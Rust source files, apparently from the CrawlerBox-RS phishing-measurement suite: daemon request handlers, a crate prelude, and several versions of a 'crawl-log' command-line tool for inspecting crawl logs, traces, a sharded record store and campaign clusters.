/// Decode the ingest payload: a JSON `{"messages": ["raw", ..]}` batch
/// when the content type says JSON, one raw RFC-822 message otherwise.
fn parse_ingest_body(req: &cb_httpd::Request) -> Result<Vec<String>, &'static str> {
    let is_json =
        req.header("content-type").map(|ct| ct.contains("json")).unwrap_or(false);
    if is_json {
        let parsed: serde_json::Value =
            serde_json::from_slice(&req.body).map_err(|_| "body is not valid JSON")?;
        let Some(messages) = parsed.get("messages").and_then(|m| m.as_array()) else {
            return Err("expected {\"messages\": [\"raw\", ...]}");
        };
        if messages.is_empty() {
            return Err("empty message batch");
        }
        messages
            .iter()
            .map(|m| m.as_str().map(str::to_string).ok_or("messages must be strings"))
            .collect()
    } else {
        let raw = std::str::from_utf8(&req.body).map_err(|_| "body is not UTF-8")?;
        if raw.trim().is_empty() {
            return Err("empty message body");
        }
        Ok(vec![raw.to_string()])
    }
}

fn task_status(state: &DaemonState, req: &cb_httpd::Request) -> Response {
    if req.method != "GET" {
        return Response::json(405, r#"{"error":"method not allowed"}"#);
    }
    let Some(id) = req.path().strip_prefix("/tasks/").and_then(|s| s.parse::<u64>().ok())
    else {
        return Response::json(400, r#"{"error":"task ids are integers"}"#);
    };
    match state.tasks.get(id) {
        Some(task) => Response::json(
            200,
            json!({
                "id": task.id,
                "shard": task.shard,
                "content_hash": format!("{:032x}", task.content_hash),
                "state": task.state.as_str(),
                "error": task.error,
            })
            .to_string(),
        ),
        None => Response::json(404, r#"{"error":"unknown task"}"#),
    }
}

fn record_status(state: &DaemonState, req: &cb_httpd::Request) -> Response {
    if req.method != "GET" {
        return Response::json(405, r#"{"error":"method not allowed"}"#);
    }
    let Some(hash) = req
        .path()
        .strip_prefix("/records/")
        .and_then(|s| u128::from_str_radix(s, 16).ok())
    else {
        return Response::json(400, r#"{"error":"record keys are content hashes in hex"}"#);
    };
    let shard = route_shard(hash, state.stores.len());
    let present = state.stores[shard].lock().expect("store lock").contains_hash(hash);
    Response::json(
        200,
        json!({
            "content_hash": format!("{hash:032x}"),
            "shard": shard,
            "present": present,
        })
        .to_string(),
    )
}

fn shutdown(state: &DaemonState) -> Response {
    state.shutting_down.store(true, Ordering::SeqCst);
    if let Some(tx) = state.shutdown.lock().expect("shutdown lock").take() {
        let _ = tx.send(());
    }
    Response::json(202, r#"{"status":"stopping"}"#)
}
