#![warn(missing_docs)]

//! crawlerbox-suite: examples, integration tests and the reproduction
//! harness for CrawlerBox-RS.
//!
//! The library surface is a convenience prelude over the workspace crates;
//! the interesting entry points are the `repro` binary (regenerates every
//! table and figure of the paper) and the runnable examples under
//! `examples/`.

pub mod daemon;

/// One-stop imports for examples and downstream experiments.
pub mod prelude {
    pub use cb_adaptive::{AdaptiveConfig, Arm, CloakVerdict, PolicyMemory};
    pub use cb_botdetect::{AnonWaf, BotD, Detector, ReCaptchaV3, Turnstile};
    pub use cb_browser::{Browser, BrowserFingerprint, CrawlerProfile};
    pub use cb_email::{MessageBuilder, MimeEntity};
    pub use cb_netsim::{HttpRequest, HttpResponse, Internet, NetContext, SiteHandler};
    pub use cb_phishgen::{Corpus, CorpusSpec};
    pub use cb_phishkit::{Brand, CloakConfig, PhishingSite};
    pub use cb_qr::{decode_matrix, encode_bytes, EcLevel};
    pub use cb_sim::{SimDuration, SimTime};
    pub use cb_store::{cluster_campaigns, Store, StoreOptions, StoreSink};
    pub use crawlerbox::analysis::{analyze, AnalysisReport};
    pub use crawlerbox::{CrawlerBox, ScanRecord};
}

#[cfg(test)]
mod tests {
    #[test]
    fn prelude_reexports_compile() {
        use crate::prelude::*;
        let _spec = CorpusSpec::paper();
        let _profile = CrawlerProfile::NotABot;
    }
}
