//! Inspect a CrawlerBox JSONL crawl log (as written by `repro --log`),
//! pretty-print a telemetry trace (as written by `repro --trace`), or
//! query a persistent crawl store (as written by `repro --store`).
//!
//! ```text
//! crawl-log FILE.jsonl [--class CLASS] [--domain SUBSTR] [--limit N]
//! crawl-log trace TRACE.jsonl [--msg ID] [--limit N]
//! crawl-log store DIR stats
//! crawl-log store DIR verify
//! crawl-log store DIR repair [--shard N]
//! crawl-log store DIR query [--class CLASS] [--domain D] [--cert HEX]
//!                           [--phash HEX] [--shard N] [--limit N]
//! crawl-log store DIR campaigns [--min-size N] [--limit N]
//! ```
//!
//! The first form prints a per-class summary, the busiest landing domains,
//! and (when filters are given) the matching records. The `trace`
//! subcommand renders a span trace as an indented per-message tree. The
//! `store` family queries the durable record log: `stats` summarizes the
//! store (including a per-shard health table — a DEGRADED store keeps
//! serving its healthy shards — and the session-scoped ingest counters:
//! fsyncs per record, the commit-batch-size histogram and per-shard
//! append depth), `verify` CRC-checks every frame and
//! re-hashes every blob (nonzero exit on faults), `repair`
//! re-adjudicates quarantined shards from their last valid frames,
//! `query` looks records up by index axes, and `campaigns` reproduces
//! the paper-style campaign clustering (shared screenshot phash /
//! certificate fingerprint / URL token scheme) across shards from disk.

use cb_phishgen::MessageClass;
use cb_store::{ShardHealth, Store};
use crawlerbox::logging::{read_jsonl, ScanRecord};
use std::collections::BTreeMap;

fn usage_exit(message: &str) -> ! {
    eprintln!("error: {message}");
    eprintln!("usage: crawl-log FILE.jsonl [--class noresource|error|interaction|download|active] [--domain SUBSTR] [--limit N]");
    eprintln!("       crawl-log trace TRACE.jsonl [--msg ID] [--limit N]");
    eprintln!("       crawl-log store DIR stats|verify");
    eprintln!("       crawl-log store DIR repair [--shard N]");
    eprintln!("       crawl-log store DIR query [--class CLASS] [--domain D] [--cert HEX] [--phash HEX] [--shard N] [--limit N]");
    eprintln!("       crawl-log store DIR campaigns [--min-size N] [--limit N]");
    std::process::exit(2);
}

/// Render a `[["k","v"], ...]` field array as ` k=v ...` (empty when the
/// value is absent or not an array).
fn render_fields(v: &serde_json::Value) -> String {
    let Some(arr) = v.as_array() else {
        return String::new();
    };
    let mut out = String::new();
    for pair in arr {
        if let (Some(k), Some(val)) = (pair[0].as_str(), pair[1].as_str()) {
            out.push_str(&format!(" {k}={val}"));
        }
    }
    out
}

/// The `trace` subcommand: pretty-print a telemetry trace JSONL file as an
/// indented per-message span tree.
fn trace_main(mut iter: impl Iterator<Item = String>) {
    let mut file: Option<String> = None;
    let mut want_msg: Option<u64> = None;
    let mut limit: Option<usize> = None;
    while let Some(a) = iter.next() {
        match a.as_str() {
            "--msg" => {
                want_msg = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(m) => Some(m),
                    None => usage_exit("--msg needs a message id"),
                };
            }
            "--limit" => {
                limit = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(n) => Some(n),
                    None => usage_exit("--limit needs an integer"),
                };
            }
            other if !other.starts_with('-') => {
                if file.is_some() {
                    usage_exit(&format!("unexpected extra argument {other}"));
                }
                file = Some(other.to_string());
            }
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    let Some(path) = file else {
        usage_exit("a trace file is required");
    };
    let text = match std::fs::read_to_string(&path) {
        Ok(t) => t,
        Err(e) => usage_exit(&format!("cannot open {path}: {e}")),
    };

    let mut messages_shown = 0usize;
    let mut current: Option<u64> = None;
    let mut depth = 0usize;
    for (lineno, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let v: serde_json::Value = match serde_json::from_str(line) {
            Ok(v) => v,
            Err(e) => usage_exit(&format!("{path}:{}: not a trace line: {e}", lineno + 1)),
        };
        let msg = v["msg"].as_u64().unwrap_or(0);
        if want_msg.map(|want| want != msg).unwrap_or(false) {
            continue;
        }
        if current != Some(msg) {
            if let Some(cap) = limit {
                if messages_shown >= cap {
                    break;
                }
            }
            println!("message {msg}");
            current = Some(msg);
            depth = 0;
            messages_shown += 1;
        }
        let ph = v["ph"].as_str().unwrap_or("?");
        let name = v["name"].as_str().unwrap_or("?");
        let t = v["t"].as_i64().unwrap_or(0);
        let fields = render_fields(&v["fields"]);
        let adv = render_fields(&v["adv"]);
        match ph {
            "B" => {
                println!("{}> {name} @{t}s{fields}{adv}", "  ".repeat(depth + 1));
                depth += 1;
            }
            "E" => {
                depth = depth.saturating_sub(1);
                println!("{}< {name} @{t}s", "  ".repeat(depth + 1));
            }
            _ => println!("{}. {name} @{t}s{fields}{adv}", "  ".repeat(depth + 1)),
        }
    }
    if messages_shown == 0 {
        println!("no matching trace lines in {path}");
    }
}

/// Open the store at `dir` for a CLI query, reporting (on stderr) whatever
/// recovery did. Never creates a store: querying a missing path is a usage
/// error, not an empty result.
fn open_store_or_exit(dir: &str) -> Store {
    if !std::path::Path::new(dir).is_dir() {
        usage_exit(&format!("no store directory at {dir}"));
    }
    let store = match Store::open(std::path::Path::new(dir)) {
        Ok(s) => s,
        Err(e) => usage_exit(&format!("cannot open store {dir}: {e}")),
    };
    let recovery = store.recovery();
    for torn in &recovery.torn {
        eprintln!(
            "recovered torn tail in {}: dropped {} trailing bytes ({})",
            torn.segment.display(),
            torn.dropped_bytes,
            torn.reason
        );
    }
    for (id, reason) in &recovery.quarantined {
        eprintln!("shard {id} QUARANTINED: {reason}");
    }
    store
}

/// Validate a `--shard N` argument against the opened store or die with
/// usage (nonzero exit) — an out-of-range shard is an operator typo, not
/// an empty result.
fn check_shard_or_exit(store: &Store, shard: Option<usize>) {
    if let Some(s) = shard {
        if s >= store.shard_count() {
            usage_exit(&format!(
                "no shard {s}: store has {} shard(s) (0..={})",
                store.shard_count(),
                store.shard_count() - 1
            ));
        }
    }
}

/// Parse a hex argument (with or without `0x`) or die with usage.
fn parse_hex_u64(flag: &str, value: Option<String>) -> u64 {
    let Some(v) = value else {
        usage_exit(&format!("{flag} needs a hex value"));
    };
    let digits = v.strip_prefix("0x").unwrap_or(&v);
    match u64::from_str_radix(digits, 16) {
        Ok(n) => n,
        Err(_) => usage_exit(&format!("{flag}: {v} is not hex")),
    }
}

/// The `store` subcommand family: stats | verify | query | campaigns.
fn store_main(mut iter: impl Iterator<Item = String>) {
    let Some(dir) = iter.next() else {
        usage_exit("store needs a store directory");
    };
    if dir.starts_with('-') {
        usage_exit(&format!("store needs a directory before flags, got {dir}"));
    }
    let Some(cmd) = iter.next() else {
        usage_exit("store needs a subcommand: stats|verify|repair|query|campaigns");
    };
    match cmd.as_str() {
        "stats" => {
            if let Some(extra) = iter.next() {
                usage_exit(&format!("store stats takes no further arguments, got {extra}"));
            }
            let store = open_store_or_exit(&dir);
            let stats = store.stats();
            println!(
                "{} records in {} segment(s) across {} shard(s), {} log bytes, {} blob(s)",
                stats.records, stats.segments, stats.shards, stats.log_bytes, stats.blobs
            );
            if stats.is_degraded() {
                println!(
                    "status: DEGRADED ({} of {} shard(s) quarantined; run `crawl-log store {dir} repair`)",
                    stats.quarantined, stats.shards
                );
            } else {
                println!("status: healthy");
            }
            // Ingest observability is session-scoped: for a store opened
            // by this CLI it reflects recovery plus whatever this process
            // appended (nothing), which is still the honest answer.
            println!(
                "ingest (this session): {} appended, {} acked, {} pending, {} append error(s), {} fsync(s) ({:.3}/record)",
                stats.appended,
                stats.acked,
                stats.pending,
                stats.append_errors,
                stats.fsyncs,
                stats.fsyncs as f64 / stats.appended.max(1) as f64,
            );
            let batch_sizes = store.commit_batch_sizes();
            if batch_sizes.count() == 0 {
                println!("commit batches: none this session");
            } else {
                println!(
                    "commit batches: {} barrier(s), {} record(s) acked, sizes:",
                    batch_sizes.count(),
                    batch_sizes.sum()
                );
                let bounds = batch_sizes.bounds();
                for (i, n) in batch_sizes.bucket_counts().iter().enumerate() {
                    if *n == 0 {
                        continue;
                    }
                    match bounds.get(i) {
                        Some(hi) => println!("  <= {hi:>5}  {n}"),
                        None => println!(
                            "   > {:>5}  {n}",
                            bounds.last().copied().unwrap_or(0)
                        ),
                    }
                }
            }
            println!("shards:");
            for shard in store.shards() {
                match shard.health() {
                    ShardHealth::Healthy => println!(
                        "  shard {:>2}  {:>6} record(s)  {:>9} log bytes  {:>5} appended this session  healthy",
                        shard.id(),
                        shard.len(),
                        shard.log_bytes(),
                        shard.session_appends()
                    ),
                    ShardHealth::Quarantined { segment, at, reason } => println!(
                        "  shard {:>2}  QUARANTINED at {}+{at}: {reason}",
                        shard.id(),
                        segment.display()
                    ),
                }
            }
            println!("class mix:");
            for (class, n) in store.class_counts() {
                println!("  {:<22} {n}", format!("{class:?}"));
            }
            let mut domains: Vec<(String, usize)> = store.domain_counts().into_iter().collect();
            domains.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
            println!("top landing domains:");
            for (d, n) in domains.into_iter().take(10) {
                println!("  {n:>5}  {d}");
            }
        }
        "verify" => {
            if let Some(extra) = iter.next() {
                usage_exit(&format!("store verify takes no further arguments, got {extra}"));
            }
            let mut store = open_store_or_exit(&dir);
            let report = match store.verify() {
                Ok(r) => r,
                Err(e) => usage_exit(&format!("verify failed: {e}")),
            };
            println!(
                "verified {} record frame(s) in {} segment(s), {} blob(s)",
                report.records, report.segments, report.blobs
            );
            if report.is_clean() {
                println!("store is clean");
            } else {
                for fault in &report.faults {
                    eprintln!("FAULT {}: {}", fault.path.display(), fault.reason);
                }
                eprintln!("{} fault(s) found", report.faults.len());
                std::process::exit(1);
            }
        }
        "repair" => {
            let mut shard: Option<usize> = None;
            while let Some(a) = iter.next() {
                match a.as_str() {
                    "--shard" => {
                        shard = match iter.next().and_then(|v| v.parse().ok()) {
                            Some(s) => Some(s),
                            None => usage_exit("--shard needs a shard id"),
                        }
                    }
                    other => usage_exit(&format!("unknown store repair flag {other}")),
                }
            }
            let mut store = open_store_or_exit(&dir);
            check_shard_or_exit(&store, shard);
            let reports = match store.repair(shard) {
                Ok(r) => r,
                Err(e) => usage_exit(&format!("repair failed: {e}")),
            };
            if reports.is_empty() {
                println!("nothing to repair: no shard is quarantined");
            }
            for r in &reports {
                println!(
                    "shard {}: salvaged {} record(s){}",
                    r.shard,
                    r.salvaged,
                    if r.was_quarantined { ", returned to service" } else { "" }
                );
            }
            if store.is_degraded() {
                eprintln!("store is still degraded after repair");
                std::process::exit(1);
            }
        }
        "query" => {
            let mut class: Option<MessageClass> = None;
            let mut domain: Option<String> = None;
            let mut cert: Option<u64> = None;
            let mut phash: Option<u64> = None;
            let mut shard: Option<usize> = None;
            let mut limit = 20usize;
            while let Some(a) = iter.next() {
                match a.as_str() {
                    "--class" => {
                        class = Some(parse_class(
                            &iter.next().unwrap_or_else(|| usage_exit("--class needs a value")),
                        ))
                    }
                    "--domain" => {
                        domain = match iter.next() {
                            Some(d) => Some(d),
                            None => usage_exit("--domain needs a value"),
                        }
                    }
                    "--cert" => cert = Some(parse_hex_u64("--cert", iter.next())),
                    "--phash" => phash = Some(parse_hex_u64("--phash", iter.next())),
                    "--shard" => {
                        shard = match iter.next().and_then(|v| v.parse().ok()) {
                            Some(s) => Some(s),
                            None => usage_exit("--shard needs a shard id"),
                        }
                    }
                    "--limit" => {
                        limit = iter
                            .next()
                            .and_then(|v| v.parse().ok())
                            .unwrap_or_else(|| usage_exit("--limit needs an integer"))
                    }
                    other => usage_exit(&format!("unknown store query flag {other}")),
                }
            }
            let store = open_store_or_exit(&dir);
            check_shard_or_exit(&store, shard);
            let matches: Vec<_> = store
                .metas()
                .filter(|(s, _)| shard.map(|want| *s == want).unwrap_or(true))
                .filter(|(_, m)| class.map(|c| m.class == c).unwrap_or(true))
                .filter(|(_, m)| {
                    domain
                        .as_ref()
                        .map(|d| m.domains.iter().any(|have| have.contains(d.as_str())))
                        .unwrap_or(true)
                })
                .filter(|(_, m)| cert.map(|fp| m.cert_fingerprints.contains(&fp)).unwrap_or(true))
                .filter(|(_, m)| phash.map(|p| m.phashes.contains(&p)).unwrap_or(true))
                .collect();
            println!("{} matching record(s):", matches.len());
            for (s, m) in matches.into_iter().take(limit) {
                println!(
                    "  shard {s:>2} seq {:>5}  msg {:>5}  {:?}  hash {:032x}  domains [{}]  certs [{}]",
                    m.seq,
                    m.message_id,
                    m.class,
                    m.content_hash,
                    m.domains.join(", "),
                    m.cert_fingerprints
                        .iter()
                        .map(|fp| format!("{fp:016x}"))
                        .collect::<Vec<_>>()
                        .join(", "),
                );
            }
        }
        "campaigns" => {
            let mut min_size = 2usize;
            let mut limit = 20usize;
            while let Some(a) = iter.next() {
                match a.as_str() {
                    "--min-size" => {
                        min_size = iter
                            .next()
                            .and_then(|v| v.parse().ok())
                            .unwrap_or_else(|| usage_exit("--min-size needs an integer"))
                    }
                    "--limit" => {
                        limit = iter
                            .next()
                            .and_then(|v| v.parse().ok())
                            .unwrap_or_else(|| usage_exit("--limit needs an integer"))
                    }
                    other => usage_exit(&format!("unknown store campaigns flag {other}")),
                }
            }
            let store = open_store_or_exit(&dir);
            let campaigns = store.campaigns();
            let mut real: Vec<_> = campaigns.iter().filter(|c| c.len() >= min_size).collect();
            real.sort_by(|a, b| b.len().cmp(&a.len()).then(a.id.cmp(&b.id)));
            let clustered: usize = real.iter().map(|c| c.len()).sum();
            println!(
                "{} campaign(s) of >= {min_size} record(s) ({clustered} of {} records clustered)",
                real.len(),
                store.len(),
            );
            for c in real.into_iter().take(limit) {
                let mut evidence = Vec::new();
                if !c.phashes.is_empty() {
                    evidence.push(format!("{} screenshot hash(es)", c.phashes.len()));
                }
                if !c.cert_fingerprints.is_empty() {
                    evidence.push(format!("{} cert fingerprint(s)", c.cert_fingerprints.len()));
                }
                if !c.url_schemes.is_empty() {
                    evidence.push(format!("{} URL scheme(s)", c.url_schemes.len()));
                }
                println!(
                    "  campaign {:>4}: {} record(s), {} domain(s) [{}]",
                    c.id,
                    c.len(),
                    c.domains.len(),
                    c.domains.iter().take(4).cloned().collect::<Vec<_>>().join(", "),
                );
                println!("    evidence: {}", evidence.join(", "));
                let classes: Vec<String> =
                    c.classes.iter().map(|(cl, n)| format!("{cl:?} x{n}")).collect();
                println!("    classes:  {}", classes.join(", "));
            }
        }
        other => usage_exit(&format!(
            "unknown store subcommand {other}; expected stats|verify|repair|query|campaigns"
        )),
    }
}

fn parse_class(s: &str) -> MessageClass {
    match s.to_ascii_lowercase().as_str() {
        "noresource" | "no-resource" => MessageClass::NoResource,
        "error" | "errorpage" => MessageClass::ErrorPage,
        "interaction" => MessageClass::InteractionRequired,
        "download" => MessageClass::Download,
        "active" | "phish" => MessageClass::ActivePhish,
        other => usage_exit(&format!("unknown class {other}")),
    }
}

fn main() {
    let mut iter = std::env::args().skip(1).peekable();
    if iter.peek().map(String::as_str) == Some("trace") {
        iter.next();
        trace_main(iter);
        return;
    }
    if iter.peek().map(String::as_str) == Some("store") {
        iter.next();
        store_main(iter);
        return;
    }
    let mut file: Option<String> = None;
    let mut class: Option<MessageClass> = None;
    let mut domain: Option<String> = None;
    let mut limit = 10usize;
    while let Some(a) = iter.next() {
        match a.as_str() {
            "--class" => {
                class = Some(parse_class(
                    &iter.next().unwrap_or_else(|| usage_exit("--class needs a value")),
                ))
            }
            "--domain" => domain = iter.next(),
            "--limit" => {
                limit = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage_exit("--limit needs an integer"))
            }
            other if !other.starts_with('-') => file = Some(other.to_string()),
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    let Some(path) = file else {
        usage_exit("a crawl-log file is required");
    };
    let reader = match std::fs::File::open(&path) {
        Ok(f) => std::io::BufReader::new(f),
        Err(e) => usage_exit(&format!("cannot open {path}: {e}")),
    };
    let records = match read_jsonl(reader) {
        Ok(r) => r,
        Err(e) => usage_exit(&format!("cannot parse {path}: {e}")),
    };

    // Summary.
    let mut by_class: BTreeMap<String, usize> = BTreeMap::new();
    let mut by_domain: BTreeMap<String, usize> = BTreeMap::new();
    for r in &records {
        *by_class.entry(format!("{:?}", r.class)).or_insert(0) += 1;
        for v in &r.visits {
            if let Some(d) = v.landing_domain() {
                *by_domain.entry(d).or_insert(0) += 1;
            }
        }
    }
    println!("{} records in {path}", records.len());
    for (c, n) in &by_class {
        println!("  {c:<22} {n}");
    }
    let mut domains: Vec<(&String, &usize)> = by_domain.iter().collect();
    domains.sort_by(|a, b| b.1.cmp(a.1));
    println!("top landing domains:");
    for (d, n) in domains.into_iter().take(limit) {
        println!("  {n:>5}  {d}");
    }

    // Filtered detail.
    let matches: Vec<&ScanRecord> = records
        .iter()
        .filter(|r| class.map(|c| r.class == c).unwrap_or(true))
        .filter(|r| {
            domain
                .as_ref()
                .map(|d| {
                    r.visits
                        .iter()
                        .any(|v| v.landing_domain().map(|h| h.contains(d)).unwrap_or(false))
                })
                .unwrap_or(true)
        })
        .collect();
    if class.is_some() || domain.is_some() {
        println!("\n{} matching records:", matches.len());
        for r in matches.into_iter().take(limit) {
            let landing = r
                .visits
                .first()
                .map(|v| v.final_url().to_string())
                .unwrap_or_else(|| "(no visits)".to_string());
            println!(
                "  msg {:>5}  {:?}  {}  extracted {}  faulty-qr {}",
                r.message_id,
                r.class,
                landing,
                r.extracted.len(),
                r.has_faulty_qr(),
            );
        }
    }
}
