//! Inspect a CrawlerBox JSONL crawl log (as written by `repro --log`) or
//! pretty-print a telemetry trace (as written by `repro --trace`).
//!
//! ```text
//! crawl-log FILE.jsonl [--class CLASS] [--domain SUBSTR] [--limit N]
//! crawl-log trace TRACE.jsonl [--msg ID] [--limit N]
//! ```
//!
//! The first form prints a per-class summary, the busiest landing domains,
//! and (when filters are given) the matching records. The `trace`
//! subcommand renders a span trace as an indented per-message tree.

use cb_phishgen::MessageClass;
use crawlerbox::logging::{read_jsonl, ScanRecord};
use std::collections::BTreeMap;

fn usage_exit(message: &str) -> ! {
    eprintln!("error: {message}");
    eprintln!("usage: crawl-log FILE.jsonl [--class noresource|error|interaction|download|active] [--domain SUBSTR] [--limit N]");
    eprintln!("       crawl-log trace TRACE.jsonl [--msg ID] [--limit N]");
    std::process::exit(2);
}

/// Render a `[["k","v"], ...]` field array as ` k=v ...` (empty when the
/// value is absent or not an array).
fn render_fields(v: &serde_json::Value) -> String {
    let Some(arr) = v.as_array() else {
        return String::new();
    };
    let mut out = String::new();
    for pair in arr {
        if let (Some(k), Some(val)) = (pair[0].as_str(), pair[1].as_str()) {
            out.push_str(&format!(" {k}={val}"));
        }
    }
    out
}

/// The `trace` subcommand: pretty-print a telemetry trace JSONL file as an
/// indented per-message span tree.
fn trace_main(mut iter: impl Iterator<Item = String>) {
    let mut file: Option<String> = None;
    let mut want_msg: Option<u64> = None;
    let mut limit: Option<usize> = None;
    while let Some(a) = iter.next() {
        match a.as_str() {
            "--msg" => {
                want_msg = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(m) => Some(m),
                    None => usage_exit("--msg needs a message id"),
                };
            }
            "--limit" => {
                limit = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(n) => Some(n),
                    None => usage_exit("--limit needs an integer"),
                };
            }
            other if !other.starts_with('-') => {
                if file.is_some() {
                    usage_exit(&format!("unexpected extra argument {other}"));
                }
                file = Some(other.to_string());
            }
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    let Some(path) = file else {
        usage_exit("a trace file is required");
    };
    let text = match std::fs::read_to_string(&path) {
        Ok(t) => t,
        Err(e) => usage_exit(&format!("cannot open {path}: {e}")),
    };

    let mut messages_shown = 0usize;
    let mut current: Option<u64> = None;
    let mut depth = 0usize;
    for (lineno, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let v: serde_json::Value = match serde_json::from_str(line) {
            Ok(v) => v,
            Err(e) => usage_exit(&format!("{path}:{}: not a trace line: {e}", lineno + 1)),
        };
        let msg = v["msg"].as_u64().unwrap_or(0);
        if want_msg.map(|want| want != msg).unwrap_or(false) {
            continue;
        }
        if current != Some(msg) {
            if let Some(cap) = limit {
                if messages_shown >= cap {
                    break;
                }
            }
            println!("message {msg}");
            current = Some(msg);
            depth = 0;
            messages_shown += 1;
        }
        let ph = v["ph"].as_str().unwrap_or("?");
        let name = v["name"].as_str().unwrap_or("?");
        let t = v["t"].as_i64().unwrap_or(0);
        let fields = render_fields(&v["fields"]);
        let adv = render_fields(&v["adv"]);
        match ph {
            "B" => {
                println!("{}> {name} @{t}s{fields}{adv}", "  ".repeat(depth + 1));
                depth += 1;
            }
            "E" => {
                depth = depth.saturating_sub(1);
                println!("{}< {name} @{t}s", "  ".repeat(depth + 1));
            }
            _ => println!("{}. {name} @{t}s{fields}{adv}", "  ".repeat(depth + 1)),
        }
    }
    if messages_shown == 0 {
        println!("no matching trace lines in {path}");
    }
}

fn parse_class(s: &str) -> MessageClass {
    match s.to_ascii_lowercase().as_str() {
        "noresource" | "no-resource" => MessageClass::NoResource,
        "error" | "errorpage" => MessageClass::ErrorPage,
        "interaction" => MessageClass::InteractionRequired,
        "download" => MessageClass::Download,
        "active" | "phish" => MessageClass::ActivePhish,
        other => usage_exit(&format!("unknown class {other}")),
    }
}

fn main() {
    let mut iter = std::env::args().skip(1).peekable();
    if iter.peek().map(String::as_str) == Some("trace") {
        iter.next();
        trace_main(iter);
        return;
    }
    let mut file: Option<String> = None;
    let mut class: Option<MessageClass> = None;
    let mut domain: Option<String> = None;
    let mut limit = 10usize;
    while let Some(a) = iter.next() {
        match a.as_str() {
            "--class" => {
                class = Some(parse_class(
                    &iter.next().unwrap_or_else(|| usage_exit("--class needs a value")),
                ))
            }
            "--domain" => domain = iter.next(),
            "--limit" => {
                limit = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage_exit("--limit needs an integer"))
            }
            other if !other.starts_with('-') => file = Some(other.to_string()),
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    let Some(path) = file else {
        usage_exit("a crawl-log file is required");
    };
    let reader = match std::fs::File::open(&path) {
        Ok(f) => std::io::BufReader::new(f),
        Err(e) => usage_exit(&format!("cannot open {path}: {e}")),
    };
    let records = match read_jsonl(reader) {
        Ok(r) => r,
        Err(e) => usage_exit(&format!("cannot parse {path}: {e}")),
    };

    // Summary.
    let mut by_class: BTreeMap<String, usize> = BTreeMap::new();
    let mut by_domain: BTreeMap<String, usize> = BTreeMap::new();
    for r in &records {
        *by_class.entry(format!("{:?}", r.class)).or_insert(0) += 1;
        for v in &r.visits {
            if let Some(d) = v.landing_domain() {
                *by_domain.entry(d).or_insert(0) += 1;
            }
        }
    }
    println!("{} records in {path}", records.len());
    for (c, n) in &by_class {
        println!("  {c:<22} {n}");
    }
    let mut domains: Vec<(&String, &usize)> = by_domain.iter().collect();
    domains.sort_by(|a, b| b.1.cmp(a.1));
    println!("top landing domains:");
    for (d, n) in domains.into_iter().take(limit) {
        println!("  {n:>5}  {d}");
    }

    // Filtered detail.
    let matches: Vec<&ScanRecord> = records
        .iter()
        .filter(|r| class.map(|c| r.class == c).unwrap_or(true))
        .filter(|r| {
            domain
                .as_ref()
                .map(|d| {
                    r.visits
                        .iter()
                        .any(|v| v.landing_domain().map(|h| h.contains(d)).unwrap_or(false))
                })
                .unwrap_or(true)
        })
        .collect();
    if class.is_some() || domain.is_some() {
        println!("\n{} matching records:", matches.len());
        for r in matches.into_iter().take(limit) {
            let landing = r
                .visits
                .first()
                .map(|v| v.final_url().to_string())
                .unwrap_or_else(|| "(no visits)".to_string());
            println!(
                "  msg {:>5}  {:?}  {}  extracted {}  faulty-qr {}",
                r.message_id,
                r.class,
                landing,
                r.extracted.len(),
                r.has_faulty_qr(),
            );
        }
    }
}
