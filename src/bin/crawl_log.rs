//! Inspect a CrawlerBox JSONL crawl log (as written by `repro --log`).
//!
//! ```text
//! crawl-log FILE.jsonl [--class CLASS] [--domain SUBSTR] [--limit N]
//! ```
//!
//! Prints a per-class summary, the busiest landing domains, and (when
//! filters are given) the matching records.

use cb_phishgen::MessageClass;
use crawlerbox::logging::{read_jsonl, ScanRecord};
use std::collections::BTreeMap;

fn usage_exit(message: &str) -> ! {
    eprintln!("error: {message}");
    eprintln!("usage: crawl-log FILE.jsonl [--class noresource|error|interaction|download|active] [--domain SUBSTR] [--limit N]");
    std::process::exit(2);
}

fn parse_class(s: &str) -> MessageClass {
    match s.to_ascii_lowercase().as_str() {
        "noresource" | "no-resource" => MessageClass::NoResource,
        "error" | "errorpage" => MessageClass::ErrorPage,
        "interaction" => MessageClass::InteractionRequired,
        "download" => MessageClass::Download,
        "active" | "phish" => MessageClass::ActivePhish,
        other => usage_exit(&format!("unknown class {other}")),
    }
}

fn main() {
    let mut file: Option<String> = None;
    let mut class: Option<MessageClass> = None;
    let mut domain: Option<String> = None;
    let mut limit = 10usize;
    let mut iter = std::env::args().skip(1);
    while let Some(a) = iter.next() {
        match a.as_str() {
            "--class" => {
                class = Some(parse_class(
                    &iter.next().unwrap_or_else(|| usage_exit("--class needs a value")),
                ))
            }
            "--domain" => domain = iter.next(),
            "--limit" => {
                limit = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage_exit("--limit needs an integer"))
            }
            other if !other.starts_with('-') => file = Some(other.to_string()),
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    let Some(path) = file else {
        usage_exit("a crawl-log file is required");
    };
    let reader = match std::fs::File::open(&path) {
        Ok(f) => std::io::BufReader::new(f),
        Err(e) => usage_exit(&format!("cannot open {path}: {e}")),
    };
    let records = match read_jsonl(reader) {
        Ok(r) => r,
        Err(e) => usage_exit(&format!("cannot parse {path}: {e}")),
    };

    // Summary.
    let mut by_class: BTreeMap<String, usize> = BTreeMap::new();
    let mut by_domain: BTreeMap<String, usize> = BTreeMap::new();
    for r in &records {
        *by_class.entry(format!("{:?}", r.class)).or_insert(0) += 1;
        for v in &r.visits {
            if let Some(d) = v.landing_domain() {
                *by_domain.entry(d).or_insert(0) += 1;
            }
        }
    }
    println!("{} records in {path}", records.len());
    for (c, n) in &by_class {
        println!("  {c:<22} {n}");
    }
    let mut domains: Vec<(&String, &usize)> = by_domain.iter().collect();
